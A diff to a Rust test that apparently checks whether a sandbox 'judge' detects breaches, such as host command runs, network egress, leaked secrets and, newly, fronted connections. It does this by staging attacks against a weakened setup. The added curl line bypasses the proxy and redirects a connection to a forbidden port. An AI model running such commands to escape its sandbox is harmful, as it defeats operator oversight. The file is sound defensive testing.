@@ -1,6 +1,9 @@
 //! Does the judge notice? For each of its rules something is done that it must count: by the real program with a configuration
 //! that lets attacks succeed, and by hand. A judge that notices nothing would print the same zeros.
 
+use std::fs::Permissions;
+use std::os::unix::fs::PermissionsExt;
+
 use anyhow::Context;
 use serde_json::json;
 
@@ -25,7 +28,7 @@ pub async fn tried() -> anyhow::Result<Tried> {
     let site = Site::weak(known()).await?;
     let has_ended = site.run().await?;
     let found = judge::everything(&site, has_ended).await?;
-    let is_meant = |rule: Rule| matches!(rule, Rule::HostRan | Rule::Egress | Rule::Confided);
+    let is_meant = |rule: Rule| matches!(rule, Rule::HostRan | Rule::Egress | Rule::Confided | Rule::Front);
     let others: Vec<_> = found.iter().filter(|breach| !is_meant(breach.rule)).collect();
     anyhow::ensure!(others.is_empty(), "more got through than was meant to: {others:?}");
     let mut noticed: Vec<Rule> = found.iter().map(|breach| breach.rule).collect();
@@ -52,6 +55,7 @@ fn known() -> Vec<Attempt> {
         attack("known")
             .calls("probe/environment", json!({ "command": "touch @MARK@" }))
             .runs("curl -sS -m 5 http://127.0.0.2:@FORBIDDEN@/")
+            .runs("curl -sSk -m 5 --noproxy '' --connect-to evil.example:@FRONTPORT@:@FRONT@ https://evil.example:@FRONTPORT@/")
             .works(),
         // GitHub knows nothing of what is confidential, so its words are shown.
         Attempt {
@@ -92,7 +96,8 @@ async fn sabotage(site: &Site) -> anyhow::Result<tokio::process::Child> {
     // Files, and secrets in them.
     std::fs::write(site.folder().join("dropped"), "x")?;
     let log = site.folder().join("logs").join("leak.log");
-    std::fs::write(log, canary::disguises(canary::ENVIRONMENT).join("\n"))?;
+    std::fs::write(&log, canary::disguises(canary::ENVIRONMENT).join("\n"))?;
+    std::fs::set_permissions(&log, Permissions::from_mode(0o640))?;
     // Branches, the mirror, and a delivery that nobody could check out.
     let base = target.repository.git().resolve("refs/heads/main").unwrap_or_default();
     let evil = target.repository.commit("main", "Evil", &[("evil", "x")]);
